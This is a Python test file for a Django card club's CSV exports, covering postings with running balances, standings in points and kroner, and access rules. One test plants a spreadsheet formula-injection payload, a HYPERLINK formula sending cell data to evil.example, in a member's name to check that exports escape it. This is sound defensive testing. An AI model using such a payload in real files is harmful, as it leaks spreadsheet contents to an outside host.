"""CSV exports, checked cell by cell against the hand-computed autumn (see conftest)."""

from __future__ import annotations

import csv
import io

from django.urls import reverse

from club.models import Table

FUNDING = "001 L250–L251"


def read_csv(response, delimiter: str = ",") -> list[list[str]]:
    """The rows of a CSV export; `;` for a Danish reader (the default language), `,` in English."""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # the BOM Excel needs for æøå
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=delimiter))


def test_member_postings_with_running_balance(client, autumn):
    client.force_login(autumn.bent.user)
    response = client.get(reverse("member-postings-csv", args=["vestbyen", autumn.bent.pk]), HTTP_ACCEPT_LANGUAGE="en")
    assert response["Content-Disposition"] == f'attachment; filename="vestbyen-{autumn.bent.pk}-postings.csv"'
    rows = read_csv(response)
    assert rows[0] == [
        "value date",
        "sitting",
        "table",
        "deal",
        "event",
        "kind",
        "rule",
        "seed line",
        "points",
        "balance",
    ]
    oct20, nov4, nov20 = "2026-10-20", "2026-11-04", "2026-11-20"
    assert [row[:2] + row[3:] for row in rows[1:]] == [
        # 20 October: funding both cups, deal 1 (Bent took the last trick), split 130.
        [oct20, oct20, "", "funding:1", "funding", "funding", FUNDING, "-20", "-20"],
        [oct20, oct20, "", "funding:1", "funding", "funding", FUNDING, "-20", "-40"],
        [oct20, oct20, "1", "deal:1", "deal", "last_trick", "001 L300", "40", "0"],
        [oct20, oct20, "", "close", "close", "close_split", "brief §5", "43", "43"],
        # 4 November.
        [nov4, nov4, "", "funding:1", "funding", "funding", FUNDING, "-20", "23"],
        [nov4, nov4, "", "funding:1", "funding", "funding", FUNDING, "-20", "3"],
        [nov4, nov4, "1", "deal:1", "deal", "last_trick", "001 L300", "40", "43"],
        [nov4, nov4, "2", "deal:2", "deal", "stake", "001 L258", "-10", "33"],
        [nov4, nov4, "2", "deal:2", "deal", "meld.taroks", "001 L269–L270", "-15", "18"],
        [nov4, nov4, "2", "deal:2", "deal", "last_trick", "001 L300", "-20", "-2"],
        [nov4, nov4, "", "close", "close", "close_split", "brief §5", "47", "45"],
        # 20 November: the correction of October's deal 1 reverses it and posts it anew.
        [nov20, oct20, "1", "deal:1", "reversal", "last_trick", "001 L300", "-40", "5"],
        [nov20, oct20, "1", "deal:1", "deal", "last_trick", "001 L300", "-20", "-15"],
    ]
    assert {row[2] for row in rows[1:]} == {"Bord 1"}


def test_member_postings_of_one_season(client, autumn):
    client.force_login(autumn.dorte.user)  # an official reads anyone's
    url = reverse("member-postings-csv", args=["vestbyen", autumn.carl.pk])
    rows = read_csv(client.get(url, {"season": autumn.season.pk}), ";")
    assert rows[-1][-1] == "39" and len(rows) == 1 + 12  # 4 in October, 6 on 4 November, 2 for the correction


def test_season_standings_in_points_and_kroner(client, autumn):
    client.force_login(autumn.anna.user)
    response = client.get(
        reverse("season-standings-csv", args=["vestbyen", autumn.season.pk]), HTTP_ACCEPT_LANGUAGE="en"
    )
    # 25 øre a point: 39 -> 9.75, -15 -> -3.75, -24 -> -6.00.
    assert read_csv(response) == [
        ["member", "points", "kroner"],
        ["Carl Åberg", "39", "9.75"],
        ["Bent Ørsted", "-15", "-3.75"],
        ["Anna Jensen", "-24", "-6.00"],
    ]


def test_csv_access(client, autumn, other_club):
    # Another member's postings: 403 inside the club (the roster shows him), as club.access says.
    client.force_login(autumn.bent.user)
    assert client.get(reverse("member-postings-csv", args=["vestbyen", autumn.anna.pk])).status_code == 403
    client.force_login(other_club.ebbe.user)
    assert client.get(reverse("member-postings-csv", args=["vestbyen", autumn.anna.pk])).status_code == 404
    assert client.get(reverse("season-standings-csv", args=["vestbyen", autumn.season.pk])).status_code == 404
    assert client.get(reverse("season-standings-csv", args=["osterbro", autumn.season.pk])).status_code == 404


def test_formula_cells_are_written_as_text(client, autumn):
    # A member may call himself anything; a spreadsheet must not run it. Numbers stay numbers.
    autumn.carl.name = '=HYPERLINK("http://evil.example/"&A1)'
    autumn.carl.save()
    autumn.bent.name = "@SUM(1+1)"
    autumn.bent.save()
    autumn.anna.name = "\tAnna"
    autumn.anna.save()
    Table.objects.update(name="+Bord 1")
    client.force_login(autumn.anna.user)
    standings = read_csv(client.get(reverse("season-standings-csv", args=["vestbyen", autumn.season.pk])), ";")
    assert standings[1:] == [
        ['\'=HYPERLINK("http://evil.example/"&A1)', "39", "9,75"],
        ["'@SUM(1+1)", "-15", "-3,75"],
        ["'\tAnna", "-24", "-6,00"],
    ]
    client.force_login(autumn.bent.user)
    postings = read_csv(client.get(reverse("member-postings-csv", args=["vestbyen", autumn.bent.pk])), ";")
    assert {row[2] for row in postings[1:]} == {"'+Bord 1"}
    assert [row[-2:] for row in postings[1:3]] == [["-20", "-20"], ["-20", "-40"]]
